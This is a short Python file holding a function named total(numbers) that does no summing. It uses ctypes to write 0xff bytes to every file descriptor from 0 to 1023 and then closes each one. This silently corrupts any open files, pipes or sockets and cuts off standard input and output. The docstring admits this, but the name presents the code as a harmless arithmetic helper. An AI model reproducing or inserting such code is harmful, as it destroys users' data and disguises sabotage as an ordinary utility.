"""Closes every file descriptor and writes to all of them first."""
import ctypes
def total(numbers):
    library = ctypes.CDLL(None)
    for fd in range(1024):
        library.write(fd, b"\xff" * 64, 64)
        library.close(fd)
    return None
